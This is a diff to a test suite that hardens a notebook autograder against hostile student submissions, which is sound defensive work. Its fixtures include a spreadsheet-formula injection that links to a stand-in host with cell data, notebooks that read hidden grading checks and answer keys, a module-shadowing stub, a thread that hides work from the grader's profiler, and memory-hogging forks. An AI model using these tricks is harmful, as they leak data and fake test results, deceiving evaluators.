@@ -138,7 +138,8 @@ def csv_injector_ch02():
     """classify raises an exception whose name is a spreadsheet formula."""
     nb = source_nb("ch02_curvature")
     _set(nb, "classify", "Formula = type('=HYPERLINK(\"http://example.invalid/?\"&A1)', (Exception,), {})\n\n"
-                         "def classify(H, tol=1e-8):\n    raise Formula('click me')\n")
+                         "def classify(H, tol=1e-8):\n    if not np.any(H):\n        return 'inconclusive'\n"
+                         "    raise Formula('click me')\n")
     return nb                                                      # 8: classify 0
 
 
@@ -178,6 +179,16 @@ def snoop_ch03(paths):
         "        print('READ-FAILED', p, type(exc).__name__)\n"
         "import hvplib\nprint('HVPLIB', hvplib.__file__)\n"))
     return nb                                                      # 10
+
+
+def threader_ch03():
+    """fd_hvp hands the work to hvplib in another thread, where the in-kernel profiler of the hidden tests is
+    blind; the rest is honest."""
+    nb = source_nb("ch03_hvp")
+    _set(nb, "fd_hvp", "from concurrent.futures import ThreadPoolExecutor\n_pool = ThreadPoolExecutor(1)\n\n"
+                       "def fd_hvp(grad_f, x, v, eps=None):\n"
+                       "    return _pool.submit(hv.fd_hvp, grad_f, x, v, eps).result()\n")
+    return nb                                                      # 6: fd_hvp 0 (best ε and rop_hvp right)
 
 
 def shadow_ch03():
@@ -236,7 +247,7 @@ for i in range(400):
         break
     if pid == 0:
         try:
-            hog = bytearray(64 * 2**20)
+            hog = bytearray(16 * 2**20)
             time.sleep(60)
         finally:
             os._exit(0)
@@ -274,7 +285,7 @@ def slow_ch01():
 EXPECTED = {
     ("careless", "ch01_definition"): 10, ("private", "ch05_landscapes"): 10, ("stray", "ch04_optimization"): 10,
     ("generator", "ch02_curvature"): 10, ("links", "ch02_curvature"): 10, ("injector", "ch02_curvature"): 8,
-    ("flooder", "ch03_hvp"): 10, ("snoop", "ch03_hvp"): 10, ("shadow", "ch03_hvp"): 0,
+    ("flooder", "ch03_hvp"): 10, ("snoop", "ch03_hvp"): 10, ("shadow", "ch03_hvp"): 0, ("threader", "ch03_hvp"): 6,
     ("helper", "ch01_definition"): 0, ("aaa_daemon", "ch04_optimization"): 10, ("aab_forker", "ch05_landscapes"): 10,
     ("linked_nb", "ch03_hvp"): 0, ("linked_dir", "ch01_definition"): 0,
 }
@@ -306,6 +317,7 @@ def run(tmp_path_factory):
     paths = [str(EXERCISES / "source" / "ch03_hvp" / "ch03_hvp.ipynb"), str(EXERCISES / "grading" / "checks.py"),
              str(subs / "solution" / "ch03_hvp" / "ch03_hvp.ipynb"), str(ROOT / "hvplib" / "__init__.py")]
     _write(snoop_ch03(paths), subs / "snoop" / "ch03_hvp" / "ch03_hvp.ipynb")
+    _write(threader_ch03(), subs / "threader" / "ch03_hvp" / "ch03_hvp.ipynb")
     _write(shadow_ch03(), subs / "shadow" / "ch03_hvp" / "ch03_hvp.ipynb")
     (subs / "shadow" / "ch03_hvp" / "hvplib.py").write_text(
         "import autograd\nimport numpy as np\n\ndef hvp(f, x, v):\n    return np.zeros_like(x)\n")
@@ -346,9 +358,9 @@ def sandboxed(run):
 
 def test_every_submission_scores_what_an_honest_grader_gives(run):
     totals = course.totals(run["rows"])
-    for key, want in EXPECTED.items():
-        assert totals[key][0] == want, (key, totals[key], [(r.part, r.status, r.feedback[:120])
-                                                           for r in parts(run, *key).values()])
+    wrong = {key: (want, totals[key][0], [(r.part, r.status, r.feedback[:150]) for r in parts(run, *key).values()])
+             for key, want in EXPECTED.items() if totals[key][0] != want}
+    assert not wrong, wrong
 
 
 @pytest.mark.parametrize("assignment", ASSIGNMENTS)
@@ -433,6 +445,17 @@ def test_no_hidden_test_environment_or_answer_key_reaches_the_kernel_or_feedback
     assert html and "_run_watched" not in html and "_btg_grader_check" not in html and CANARY not in html
 
 
+def test_written_by_hand_is_decided_where_the_student_cannot_interfere(run):
+    rows = parts(run, "threader", "ch03_hvp")
+    fd = rows["test_fd_hvp"]
+    assert (fd.status, fd.points) == ("failed", 0) and "another thread" in fd.feedback, fd.feedback
+    assert [rows[p].status for p in ("test_best_eps", "test_rop_hvp")] == ["passed", "passed"]
+    assert "hard:" not in fd.tamper                               # only soft notes: the decision is the re-run's
+    nb = graded_nb(run, "solution", "ch03_hvp")
+    shown = "".join("".join(o.get("text", "")) for o in cell_by_id(nb, "test_rop_hvp")["outputs"])
+    assert "written by hand: checked in a fresh interpreter" in shown
+
+
 def test_files_beside_the_notebook_are_scanned_and_cannot_shadow_modules(run):
     shadow = parts(run, "shadow", "ch03_hvp")
     assert all(r.points == 0 for r in shadow.values())
@@ -478,7 +501,7 @@ def test_hostile_report(run):
         print(f"{key[0]:>12} {key[1]:<18} expected {want:>3g}  actual {totals[key][0]:>3g}  "
               f"{times.get(key, 0):6.1f} s")
     print(f"whole run: {run['elapsed']:.0f} s")
-    assert run["elapsed"] < 600
+    assert run["elapsed"] < 1200          # ~30 notebooks, each in its own nbgrader process, on two shared cores
 
 
 # ---------------------------------------------------------------------------------------------------
